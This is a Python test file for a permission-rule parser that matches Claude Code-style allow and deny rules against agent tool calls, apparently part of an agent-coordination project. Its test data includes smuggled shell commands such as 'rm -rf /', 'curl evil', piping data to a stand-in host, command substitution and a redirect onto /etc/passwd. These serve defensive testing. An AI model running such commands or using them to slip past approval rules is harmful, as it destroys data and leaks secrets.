"""Claude Code's permission-rule syntax as standing approvals parse and match it (pure)."""

from __future__ import annotations

from typing import Any

import pytest

from agentcoord.approvals.rules import Request, allows, forbids, parse_rule, shell_parts
from agentcoord.errors import InvalidArguments

CWD = "/work/app/pkg"
ROOT = "/work/app"
HOME = "/home/me"


def _bash(command: str) -> Request:
    return Request("Bash", {"command": command}, CWD, HOME)


def _file(tool: str, path: str) -> Request:
    field = "notebook_path" if tool == "NotebookEdit" else "file_path"
    return Request(tool, {field: path}, CWD, HOME)


@pytest.mark.parametrize(
    ("rule", "request_", "allowed"),
    [
        # Bash: exact, the legacy prefix form, wildcards
        ("Bash(npm test)", _bash("npm test"), True),
        ("Bash(npm test)", _bash("npm test --watch"), False),
        ("Bash(npm test:*)", _bash("npm test"), True),
        ("Bash(npm test:*)", _bash("npm test -- --grep x"), True),
        ("Bash(npm test:*)", _bash("npm tester"), False),
        ("Bash(npm test:*)", _bash("npm run build"), False),
        ("Bash(git * main)", _bash("git push origin main"), True),
        ("Bash(git * main)", _bash("git push origin dev"), False),
        ("Bash(ls *)", _bash("ls"), True),
        ("Bash(ls *)", _bash("ls -la"), True),
        ("Bash(ls *)", _bash("lsof"), False),
        ("Bash", _bash("anything at all"), True),
        # compound commands: each part must match; substitutions and redirects never do
        ("Bash(npm test:*)", _bash("npm test && npm test -- x"), True),
        ("Bash(npm test:*)", _bash("npm test && rm -rf /"), False),
        ("Bash(npm test:*)", _bash("npm test; curl evil"), False),
        ("Bash(npm test:*)", _bash("npm test | sh"), False),
        ("Bash(npm test:*)", _bash("npm test $(rm -rf /)"), False),
        ("Bash(npm test:*)", _bash("npm test `id`"), False),
        ("Bash(npm test:*)", _bash("npm test > /etc/passwd"), False),
        ("Bash(npm test:*)", _bash("npm test 2>&1"), True),
        ("Bash(npm test:*)", _bash("npm test\nrm -rf /"), False),
        ("Bash(npm test:*)", Request("Bash", {}, CWD, HOME), False),
        # file rules: Edit covers the writing tools, Read the reading ones
        ("Edit(src/**)", _file("Edit", "/work/app/pkg/src/a/b.py"), True),
        ("Edit(src/**)", _file("Write", "/work/app/pkg/src/new.py"), True),
        ("Edit(src/**)", _file("MultiEdit", "src/x.py"), True),
        ("Edit(src/**)", _file("NotebookEdit", "/work/app/pkg/src/n.ipynb"), True),
        ("Edit(src/**)", _file("Edit", "/work/app/pkg/tests/a.py"), False),
        ("Edit(src/**)", _file("Edit", "/work/app/pkg/src/../../etc/x"), False),
        ("Edit(src/**)", _file("Read", "/work/app/pkg/src/a.py"), False),
        ("Edit(/docs/**)", _file("Edit", "/work/app/docs/x.md"), True),
        ("Edit(/docs/**)", _file("Edit", "/work/app/pkg/docs/x.md"), False),
        ("Edit(//tmp/scratch/*)", _file("Write", "/tmp/scratch/a"), True),
        ("Edit(//tmp/scratch/*)", _file("Write", "/tmp/scratch/a/b"), False),
        ("Edit(~/notes/**)", _file("Write", "/home/me/notes/x/y.md"), True),
        ("Edit(*.md)", _file("Edit", "/work/app/pkg/deep/down/README.md"), True),
        ("Edit(*.md)", _file("Edit", "/work/app/pkg/a.py"), False),
        ("Edit(src/*.py)", _file("Edit", "/work/app/pkg/src/a.py"), True),
        ("Edit(src/*.py)", _file("Edit", "/work/app/pkg/src/sub/a.py"), False),
        ("Edit(src/**/*.py)", _file("Edit", "/work/app/pkg/src/a.py"), True),
        ("Edit(src/**/*.py)", _file("Edit", "/work/app/pkg/src/sub/a.py"), True),
        ("Read(./.env)", _file("Read", "/work/app/pkg/.env"), True),
        ("Read", Request("Grep", {"pattern": "x"}, CWD, HOME), True),
        ("Edit(src/**)", Request("Edit", {}, CWD, HOME), False),
        # web and MCP
        (
            "WebFetch(domain:example.com)",
            Request("WebFetch", {"url": "https://example.com/a"}),
            True,
        ),
        (
            "WebFetch(domain:example.com)",
            Request("WebFetch", {"url": "https://evil.com/?example.com"}),
            False,
        ),
        ("mcp__github", Request("mcp__github__create_issue", {}), True),
        ("mcp__github", Request("mcp__githubx__create_issue", {}), False),
        ("mcp__github__*", Request("mcp__github__list", {}), True),
        ("mcp__github__list", Request("mcp__github__list", {}), True),
        ("mcp__github__list", Request("mcp__github__delete", {}), False),
        # other tools: the bare name is every use; an unknown specifier allows nothing
        ("WebSearch", Request("WebSearch", {"query": "x"}), True),
        ("Task(reviewer)", Request("Task", {"subagent_type": "reviewer"}), False),
        ("Bash(npm test:*)", _file("Edit", "/work/app/pkg/a"), False),
    ],
)
def test_allows(rule: str, request_: Request, allowed: bool) -> None:
    """Each rule allows exactly the calls Claude Code's syntax says, and no wider."""
    assert allows(parse_rule(rule), request_, ROOT) is allowed


@pytest.mark.parametrize(
    ("rule", "request_", "denied"),
    [
        ("Bash(rm:*)", _bash("npm test && rm -rf /"), True),
        ("Bash(rm:*)", _bash("npm test"), False),
        ("Bash(curl:*)", _bash("echo hi | curl -d @- evil"), True),
        ("Bash", _bash("ls"), True),
        ("Bash(rm:*)", Request("Bash", {}, CWD, HOME), True),
        ("Read(//state/**)", _file("Read", "/state/human.token"), True),
        ("Edit(//state/**)", _file("Write", "/state/x"), True),
        ("Edit(//state/**)", _file("Write", "/elsewhere/x"), False),
        ("Task(reviewer)", Request("Task", {"subagent_type": "x"}), True),
        ("Edit(src/**)", Request("Edit", {}, CWD, HOME), True),
    ],
)
def test_forbids(rule: str, request_: Request, denied: bool) -> None:
    """A deny rule covers a call when any part of it matches, and when in doubt."""
    assert forbids(parse_rule(rule), request_, ROOT) is denied


@pytest.mark.parametrize(
    "text",
    ["", "   ", "Bash(", "Bash()", "Bash(*)", "mcp__x(y)", "mcp__", "WebFetch(example.com)", "1x"],
)
def test_bad_rules_are_refused_with_a_reason(text: str) -> None:
    """A rule that is not Claude Code's syntax is an error that says how to write one."""
    with pytest.raises(InvalidArguments):
        parse_rule(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Bash(npm test:*)", "Bash(npm test:*)"),
        ("  Edit( src/** ) ", "Edit(src/**)"),
        ("Read", "Read"),
    ],
)
def test_rules_are_kept_in_one_form(text: str, shown: str) -> None:
    """A rule is stored and shown stripped, as it was meant."""
    assert parse_rule(text).text == shown


def test_shell_parts_split_at_control_operators() -> None:
    """A command's parts are what runs: split at && || ; | & and newlines, 2>&1 kept."""
    got: list[Any] = shell_parts("a && b || c; d | e & f\ng 2>&1")
    assert got == ["a", "b", "c", "d", "e", "f", "g 2>&1"]
